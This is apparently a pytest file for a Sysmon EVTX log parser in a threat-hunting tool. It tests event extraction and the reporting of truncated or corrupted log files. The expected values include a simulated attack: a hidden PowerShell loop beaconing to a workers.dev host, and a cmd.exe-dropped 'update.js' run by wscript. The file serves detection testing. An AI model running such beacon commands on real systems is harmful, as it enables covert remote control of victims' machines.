"""Sysmon EVTX files: values, provenance, and every kind of damage located."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path
from typing import Any

import evtx
import pytest

from relayhunt.sources.base import Head
from relayhunt.sources.sysmon_evtx import SysmonEvtxSource
from relayhunt.store import Store
from tests.conftest import FIXTURES, event_counts, load, rows

CASE = FIXTURES / "sysmon_evtx"
NAME = "Microsoft-Windows-Sysmon%4Operational.evtx"
BASIC = CASE / "basic" / NAME
MULTI = CASE / "multi_chunk" / NAME
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"
WSCRIPT = r"C:\Windows\System32\wscript.exe"
GUID_PS = "{5e0a0b7f-3cda-6543-2a01-000000001200}"
GUID_CMD = "{5e0a0b7f-3d41-6543-2c01-000000001200}"
GUID_WSCRIPT = "{5e0a0b7f-3d42-6543-2d01-000000001200}"
PS_CMDLINE = (
    '"powershell.exe" -NoProfile -WindowStyle Hidden -Command "while($true){try{'
    "Invoke-WebRequest -UseBasicParsing -Uri 'https://sync-api.acme-cdn.workers.dev/v1/beat"
    "?id=ws-fin-07' | Out-Null}catch{}; Start-Sleep -Seconds (55 + (Get-Random -Maximum 10))}\""
)


def _ts(hh: int, mm: int, ss: int, ms: int) -> dt.datetime:
    return dt.datetime(2026, 11, 3, hh, mm, ss, ms * 1000)


def _counts(path: Path) -> dict[str, int]:
    return event_counts(load(path))


def _issues(path: Path) -> list[dict[str, Any]]:
    return rows(
        load(path),
        "SELECT reason_code, severity, log_record, log_offset FROM ingest_issues "
        "ORDER BY log_offset",
    )


# -- the independent parser agrees with the fixtures -------------------------------------


def test_fixture_is_read_by_the_evtx_package() -> None:
    records = list(evtx.PyEvtxParser(str(BASIC), validate_checksums=True).records_json())
    assert [r["event_record_id"] for r in records] == list(range(1, 12))


# -- sniffing ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        pytest.param(BASIC, True, id="evtx"),
        pytest.param(CASE / "bad_header" / NAME, True, id="header-damaged-first-chunk-intact"),
        pytest.param(FIXTURES / "sysmon_xml" / "one_per_line" / "sysmon.xml", False, id="xml"),
        pytest.param(CASE / "make_fixtures.py", False, id="python"),
    ],
)
def test_sniff(path: Path, expected: bool) -> None:
    head = Head(path.name, path.read_bytes()[: 64 * 1024])
    assert SysmonEvtxSource().sniff(head) is expected


# -- values -----------------------------------------------------------------------------


def test_counts_and_skipped_types() -> None:
    s = load(BASIC)
    assert event_counts(s) == {
        "process": 2,
        "connection": 2,
        "dns": 4,
        "file": 1,
    }
    assert rows(s, "SELECT label, count FROM ingest_skipped ORDER BY label") == [
        {"label": "Security:4688", "count": 1},
        {"label": "sysmon:5", "count": 1},
    ]
    assert rows(s, "SELECT log_format, records_seen, bytes_read FROM ingest_files") == [
        {"log_format": "sysmon.evtx", "records_seen": 11, "bytes_read": 69632}
    ]
    assert s.count("ingest_issues") == 0


def test_process_create() -> None:
    s = load(BASIC)
    got = rows(s, "SELECT * FROM process ORDER BY log_record")
    assert got[0] == {
        "timestamp": _ts(9, 0, 1, 417),
        "event_action": "Process Create",
        "event_code": "1",
        "event_outcome": None,
        "event_id": "1",
        "host_name": "WS-FIN-07.corp.example",
        "host_id": None,
        "user_name": "alice",
        "user_domain": "CORP",
        "process_entity_id": GUID_PS,
        "process_pid": 6612,
        "process_executable": PS,
        "process_name": "powershell.exe",
        "process_command_line": PS_CMDLINE,
        "process_parent_entity_id": "{5e0a0b7f-1c2d-6543-0a01-000000000c00}",
        "process_parent_pid": 4512,
        "process_parent_executable": r"C:\Windows\explorer.exe",
        "process_parent_name": "explorer.exe",
        "process_parent_command_line": r"C:\Windows\Explorer.EXE",
        "process_start": _ts(9, 0, 1, 417),
        "process_hash_sha256": "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f",
        "process_working_directory": "C:\\Users\\alice\\",
        "process_integrity_level": "Medium",
        "log_format": "sysmon.evtx",
        "log_file_path": str(BASIC),
        "log_line": None,
        "log_record": 1,
    }
    wscript = got[1]
    assert (wscript["process_name"], wscript["process_parent_name"], wscript["log_record"]) == (
        "wscript.exe",
        "cmd.exe",
        5,
    )
    assert wscript["process_parent_entity_id"] == GUID_CMD
    assert wscript["process_parent_command_line"].startswith("cmd.exe /c echo var x=new Active")
    assert wscript["process_command_line"] == (
        '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\alice\\AppData\\Local\\Temp\\update.js"'
    )


def test_dns_queries() -> None:
    s = load(BASIC)
    got = rows(
        s,
        "SELECT log_record, event_id, timestamp, process_name, process_entity_id, "
        "dns_question_name, dns_resolved_ip, dns_answers, dns_response_code, event_outcome "
        "FROM dns ORDER BY log_record",
    )
    assert got == [
        {
            "log_record": 2,
            "event_id": "2",
            "timestamp": _ts(9, 0, 2, 130),
            "process_name": "powershell.exe",
            "process_entity_id": GUID_PS,
            "dns_question_name": "sync-api.acme-cdn.workers.dev",
            "dns_resolved_ip": ["104.21.48.113", "172.67.182.25"],
            "dns_answers": "type:  5 sync-api.acme-cdn.workers.dev.cdn.cloudflare.net;"
            "::ffff:104.21.48.113;::ffff:172.67.182.25;",
            "dns_response_code": "NOERROR",
            "event_outcome": "success",
        },
        {
            "log_record": 6,
            "event_id": "6",
            "timestamp": _ts(9, 3, 13, 402),
            "process_name": "wscript.exe",
            "process_entity_id": GUID_WSCRIPT,
            "dns_question_name": "script.google.com",
            "dns_resolved_ip": ["142.250.185.78"],
            "dns_answers": "::ffff:142.250.185.78;",
            "dns_response_code": "NOERROR",
            "event_outcome": "success",
        },
        {
            "log_record": 8,
            "event_id": "8",
            "timestamp": _ts(9, 5, 40, 12),
            "process_name": "chrome.exe",
            "process_entity_id": "{5e0a0b7f-3a10-6543-1f01-000000001200}",
            "dns_question_name": "acme-portal.pages.dev",
            "dns_resolved_ip": ["2606:4700:3031::ac43:b608", "172.66.44.10", "172.66.47.246"],
            "dns_answers": "2606:4700:3031::ac43:b608;::ffff:172.66.44.10;::ffff:172.66.47.246;",
            "dns_response_code": "NOERROR",
            "event_outcome": "success",
        },
        {
            "log_record": 11,
            "event_id": "11",
            "timestamp": _ts(9, 7, 3, 250),
            "process_name": "powershell.exe",
            "process_entity_id": GUID_PS,
            "dns_question_name": "sync-api-old.acme-cdn.workers.dev",
            "dns_resolved_ip": None,
            "dns_answers": None,
            "dns_response_code": "NXDOMAIN",
            "event_outcome": "failure",
        },
    ]


def test_connections_keep_reverse_dns_apart() -> None:
    s = load(BASIC)
    got = rows(
        s,
        "SELECT log_record, process_name, source_ip, source_port, destination_ip, "
        "destination_port, destination_domain, destination_domain_origin, network_transport, "
        "network_direction, user_name FROM connection ORDER BY log_record",
    )
    assert got == [
        {
            "log_record": 3,
            "process_name": "powershell.exe",
            "source_ip": "10.20.31.47",
            "source_port": 50212,
            "destination_ip": "104.21.48.113",
            "destination_port": 443,
            "destination_domain": None,  # Sysmon's "-": no PTR for a Cloudflare address
            "destination_domain_origin": None,
            "network_transport": "tcp",
            "network_direction": "egress",
            "user_name": "alice",
        },
        {
            "log_record": 7,
            "process_name": "wscript.exe",
            "source_ip": "10.20.31.47",
            "source_port": 50233,
            "destination_ip": "142.250.185.78",
            "destination_port": 443,
            "destination_domain": "fra16s56-in-f14.1e100.net",  # the PTR, not script.google.com
            "destination_domain_origin": "reverse_dns",
            "network_transport": "tcp",
            "network_direction": "egress",
            "user_name": "alice",
        },
    ]


def test_file_create() -> None:
    s = load(BASIC)
    assert rows(
        s,
        "SELECT timestamp, process_name, process_pid, process_entity_id, file_path, file_name, "
        "file_extension, log_record FROM file",
    ) == [
        {
            "timestamp": _ts(9, 3, 12, 908),
            "process_name": "cmd.exe",
            "process_pid": 7020,
            "process_entity_id": GUID_CMD,
            "file_path": r"C:\Users\alice\AppData\Local\Temp\update.js",
            "file_name": "update.js",
            "file_extension": "js",
            "log_record": 4,
        }
    ]


def test_multi_chunk_records_in_order() -> None:
    s = load(MULTI)
    assert _counts(MULTI) == {"process": 0, "connection": 110, "dns": 110, "file": 0}
    got = rows(
        s,
        "SELECT min(log_record) AS lo, max(log_record) AS hi, count(DISTINCT event_id) AS ids, "
        "min(timestamp) AS first, max(timestamp) AS last FROM "
        "(SELECT log_record, event_id, timestamp FROM dns UNION ALL "
        " SELECT log_record, event_id, timestamp FROM connection)",
    )
    assert got == [
        {
            "lo": 1,
            "hi": 220,
            "ids": 220,
            "first": _ts(10, 0, 0, 0),
            "last": rows(s, "SELECT max(timestamp) AS t FROM connection")[0]["t"],
        }
    ]
    # log_record is the record's position and event_id its EventRecordID (equal here).
    assert rows(
        s, "SELECT count(*) AS n FROM dns WHERE CAST(event_id AS BIGINT) <> log_record"
    ) == [{"n": 0}]


# -- damage -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("case", "counts", "issues"),
    [
        pytest.param(
            "truncated",
            {"process": 0, "connection": 60, "dns": 60, "file": 0},
            # Cut 30000 bytes into chunk 1: its records before the cut are read (84 in
            # chunk 0 + 36); the one the cut goes through and the 47 after are lost.
            [{"reason_code": "truncated_file", "severity": "error", "log_record": 121,
              "log_offset": 99632}],
            id="truncated",
        ),
        pytest.param(
            "zeroed_chunk",
            {"process": 0, "connection": 68, "dns": 68, "file": 0},
            [{"reason_code": "corrupt_record", "severity": "error", "log_record": 85,
              "log_offset": 69632}],
            id="zeroed-chunk",
        ),
        pytest.param(
            "corrupt_record",
            {"process": 2, "connection": 2, "dns": 4, "file": 0},
            [{"reason_code": "corrupt_record", "severity": "error", "log_record": 4,
              "log_offset": 12592}],
            id="corrupt-record",
        ),
        pytest.param(
            "bad_header",
            {"process": 2, "connection": 2, "dns": 4, "file": 1},
            [{"reason_code": "corrupt_record", "severity": "warning", "log_record": None,
              "log_offset": 0}],
            id="bad-header",
        ),
        pytest.param(
            "gzip",
            {"process": 2, "connection": 2, "dns": 4, "file": 1},
            [],
            id="gzip",
        ),
    ],
)  # fmt: skip
def test_damage_is_located(case: str, counts: dict[str, int], issues: list[dict[str, Any]]) -> None:
    path = next((CASE / case).iterdir())
    assert _counts(path) == counts
    assert _issues(path) == issues


def test_truncated_reason_names_the_lost_records() -> None:
    s = load(CASE / "truncated" / NAME)
    (reason,) = [r["reason"] for r in rows(s, "SELECT reason FROM ingest_issues")]
    assert "inside chunk 1 (offset 69632, 30000 of 65536 bytes present)" in reason
    assert "48 records" in reason and "EventRecordID 121-168" in reason
    assert rows(s, "SELECT records_seen FROM ingest_files") == [{"records_seen": 168}]


def test_zeroed_chunk_reason_infers_the_lost_ids() -> None:
    s = load(CASE / "zeroed_chunk" / NAME)
    (reason,) = [r["reason"] for r in rows(s, "SELECT reason FROM ingest_issues")]
    assert "chunk 1 at offset 69632 has no ElfChnk signature (zeroed)" in reason
    assert "EventRecordID 85-168, 84 records" in reason


def test_corrupt_record_reason_carries_the_parser_message() -> None:
    s = load(CASE / "corrupt_record" / NAME)
    (reason,) = [r["reason"] for r in rows(s, "SELECT reason FROM ingest_issues")]
    assert reason.startswith("chunk 0 at offset 4096: 1 of 11 records unreadable (EventRecordID 4)")
    assert "record number 4" in reason


def test_checksum_mismatch_without_loss_is_a_warning(tmp_path: Path) -> None:
    blob = bytearray(BASIC.read_bytes())
    # Flip bytes inside a value of record 2 (the QueryName text): the record still
    # parses, but the chunk's data checksum no longer matches.
    at = blob.find("sync-api".encode("utf-16-le"))
    blob[at : at + 2] = "X".encode("utf-16-le")
    path = tmp_path / "bitrot.evtx"
    path.write_bytes(bytes(blob))
    s = load(path)
    assert rows(s, "SELECT reason_code, severity, log_record, log_offset FROM ingest_issues") == [
        {
            "reason_code": "corrupt_record",
            "severity": "warning",
            "log_record": 1,
            "log_offset": 4096,
        }
    ]
    assert s.count("dns") == 4


def test_zero_filled_tail_is_not_reported(tmp_path: Path) -> None:
    """Space after the last chunk that was never written is not damage."""
    path = tmp_path / "preallocated.evtx"
    path.write_bytes(BASIC.read_bytes() + bytes(65536))
    assert _issues(path) == []
    assert _counts(path) == {"process": 2, "connection": 2, "dns": 4, "file": 1}


def test_header_only_file(tmp_path: Path) -> None:
    path = tmp_path / "tiny.evtx"
    path.write_bytes(BASIC.read_bytes()[:3000])
    assert _issues(path) == [
        {
            "reason_code": "truncated_file",
            "severity": "error",
            "log_record": None,
            "log_offset": 3000,
        }
    ]


def test_directory_and_copy_keep_their_paths(tmp_path: Path) -> None:
    shutil.copy(BASIC, tmp_path / "a.evtx")
    shutil.copy(CASE / "gzip" / (NAME + ".gz"), tmp_path / "b.evtx.gz")
    s = load(tmp_path)
    assert rows(s, "SELECT log_file_path, count(*) AS n FROM dns GROUP BY 1 ORDER BY 1") == [
        {"log_file_path": str(tmp_path / "a.evtx"), "n": 4},
        {"log_file_path": str(tmp_path / "b.evtx.gz"), "n": 4},
    ]


# -- a record the parser renders as broken JSON --------------------------------------------


class _Mangling:
    """The real parser, with the JSON of the given record positions cut in half."""

    def __init__(self, real: Any, broken: set[int]) -> None:
        self._real = real
        self._broken = broken

    def __call__(self, source: Any, number_of_threads: int = 0) -> Any:
        parser = self._real(source, number_of_threads=number_of_threads)
        broken = self._broken

        class _Wrapped:
            def records_json(self) -> Any:
                for position, rec in enumerate(parser.records_json(), start=1):
                    if position in broken:
                        rec = {**rec, "data": rec["data"][: len(rec["data"]) // 2]}
                    yield rec

        return _Wrapped()


def _load_broken(
    monkeypatch: pytest.MonkeyPatch, records: set[int], *, max_listed: int | None = None
) -> Store:
    """BASIC read with the JSON of ``records`` (positions) cut in half; at most
    ``max_listed`` unreadable records listed one by one, when given."""
    import relayhunt.sources.sysmon_evtx as reader

    monkeypatch.setattr(reader.evtx, "PyEvtxParser", _Mangling(evtx.PyEvtxParser, records))
    if max_listed is not None:
        monkeypatch.setattr(reader, "MAX_LISTED_BAD", max_listed)
    return load(BASIC)


def test_unreadable_record_json_costs_only_that_record(monkeypatch: pytest.MonkeyPatch) -> None:
    s = _load_broken(monkeypatch, {1})
    issues = rows(s, "SELECT reason_code, log_record, reason, excerpt FROM ingest_issues")
    assert [(i["reason_code"], i["log_record"]) for i in issues] == [("corrupt_record", 1)]
    assert "unreadable JSON" in issues[0]["reason"]
    assert issues[0]["excerpt"].startswith('{"Event"')
    # Record 1 is the first Process Create; everything else is read as without the damage.
    assert event_counts(s) == {
        "process": 1,
        "connection": 2,
        "dns": 4,
        "file": 1,
    }
    assert rows(s, "SELECT min(log_record) AS first FROM process") == [{"first": 5}]
    assert rows(s, "SELECT label, count FROM ingest_skipped ORDER BY label") == [
        {"label": "Security:4688", "count": 1},
        {"label": "sysmon:5", "count": 1},
    ]


def test_unreadable_records_past_the_listing_limit_are_counted(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    s = _load_broken(monkeypatch, {2, 4, 5}, max_listed=1)
    issues = rows(s, "SELECT log_record, reason FROM ingest_issues ORDER BY log_record, reason")
    assert [i["log_record"] for i in issues] == [2, 4]
    assert issues[1]["reason"].startswith("2 more records of this batch")
    # Records 2 (DNS), 4 (file) and 5 (process) are lost, and only they.
    assert event_counts(s) == {
        "process": 1,
        "connection": 2,
        "dns": 3,
        "file": 0,
    }
    assert rows(s, "SELECT records_seen FROM ingest_files") == [{"records_seen": 11}]
